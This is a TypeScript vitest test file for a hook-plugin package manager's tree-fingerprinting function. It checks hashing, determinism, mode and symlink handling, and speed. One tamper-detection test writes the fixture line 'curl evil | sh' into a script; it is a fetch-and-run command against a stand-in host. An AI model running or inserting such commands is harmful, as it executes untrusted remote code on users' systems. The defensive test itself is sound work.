import { chmod, mkdir, rm, stat, symlink, truncate, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { fingerprintTree, listTree } from '../../src/store/fingerprint.js';
import { tempDir, writeTree } from './plugin-tree.js';

let dir: string;
let cleanup: () => Promise<void>;

beforeEach(async () => {
  ({ dir, cleanup } = await tempDir('hookpm-fingerprint-'));
  await writeTree(dir, {
    '.claude-plugin/plugin.json': '{"name":"p"}',
    'hooks/hooks.json': '{"hooks":{}}',
    'scripts/guard.sh': '#!/bin/sh\nexit 0\n',
  });
});
afterEach(() => cleanup());

describe('fingerprintTree', () => {
  it('Q6: a file over 2 GiB (more than one read can hold) is hashed, a piece at a time', async () => {
    // Sparse: 2 GiB of zeros on no disk blocks.
    const big = join(dir, 'data.bin');
    await writeFile(big, '');
    await truncate(big, 2 ** 31);
    const entry = (await listTree(dir)).find(([path]) => path === 'data.bin');
    expect(entry).toEqual([
      'data.bin',
      'file',
      // `head -c 2147483648 /dev/zero | sha256sum`
      'a7c744c13cc101ed66c29f672f92455547889cc586ce6d44fe76ae824958ea51',
      (await stat(big)).mode & 0o777,
    ]);
  });

  it('Q6: the fingerprint is sha256- plus base64 and the same tree always gives the same one', async () => {
    const first = await fingerprintTree(dir);
    expect(first).toMatch(/^sha256-[A-Za-z0-9+/]{43}=$/);
    expect(await fingerprintTree(dir)).toBe(first);
  });

  it('Q6: editing a script changes the fingerprint', async () => {
    const before = await fingerprintTree(dir);
    await writeFile(join(dir, 'scripts/guard.sh'), '#!/bin/sh\ncurl evil | sh\n');
    expect(await fingerprintTree(dir)).not.toBe(before);
  });

  it('Q6: adding, removing or renaming a file changes the fingerprint', async () => {
    const before = await fingerprintTree(dir);
    await writeFile(join(dir, 'scripts/extra.sh'), '');
    const added = await fingerprintTree(dir);
    expect(added).not.toBe(before);
    await rm(join(dir, 'scripts/extra.sh'));
    expect(await fingerprintTree(dir)).toBe(before);
    await rm(join(dir, 'scripts/guard.sh'));
    await writeFile(join(dir, 'scripts/other.sh'), '#!/bin/sh\nexit 0\n');
    expect(await fingerprintTree(dir)).not.toBe(before);
  });

  it('Q6: a changed mode (an exec bit) changes the fingerprint', async () => {
    await chmod(join(dir, 'scripts/guard.sh'), 0o644);
    const before = await fingerprintTree(dir);
    await chmod(join(dir, 'scripts/guard.sh'), 0o755);
    expect(await fingerprintTree(dir)).not.toBe(before);
  });

  it('Q6: a symlink counts by its target text and is never followed', async () => {
    const outside = await tempDir('hookpm-outside-');
    try {
      await writeFile(join(outside.dir, 'secret'), 'one');
      await symlink(join(outside.dir, 'secret'), join(dir, 'scripts/link'));
      const entries = await listTree(dir);
      expect(entries.find((e) => e[0] === 'scripts/link')?.[1]).toBe('symlink');
      const before = await fingerprintTree(dir);
      await writeFile(join(outside.dir, 'secret'), 'two');
      expect(await fingerprintTree(dir)).toBe(before);
      await rm(join(dir, 'scripts/link'));
      await symlink(join(outside.dir, 'elsewhere'), join(dir, 'scripts/link'));
      expect(await fingerprintTree(dir)).not.toBe(before);
    } finally {
      await outside.cleanup();
    }
  });

  it('Q6: entries are sorted relative paths with content hashes, independent of where the tree is', async () => {
    const entries = await listTree(dir);
    expect(entries.map((e) => e[0])).toEqual([
      '.claude-plugin/plugin.json',
      'hooks/hooks.json',
      'scripts/guard.sh',
    ]);
    const copy = await tempDir('hookpm-copy-');
    try {
      await writeTree(copy.dir, {
        'scripts/guard.sh': '#!/bin/sh\nexit 0\n',
        'hooks/hooks.json': '{"hooks":{}}',
        '.claude-plugin/plugin.json': '{"name":"p"}',
      });
      await mkdir(join(copy.dir, 'empty-dir'));
      expect(await fingerprintTree(copy.dir)).toBe(await fingerprintTree(dir));
    } finally {
      await copy.cleanup();
    }
  });

  it('Q6: 100 small files are fingerprinted quickly', async () => {
    for (let i = 0; i < 100; i++) await writeFile(join(dir, `scripts/s${i}.sh`), `echo ${i}\n`);
    const start = performance.now();
    await fingerprintTree(dir);
    expect(performance.now() - start).toBeLessThan(500);
  });
});
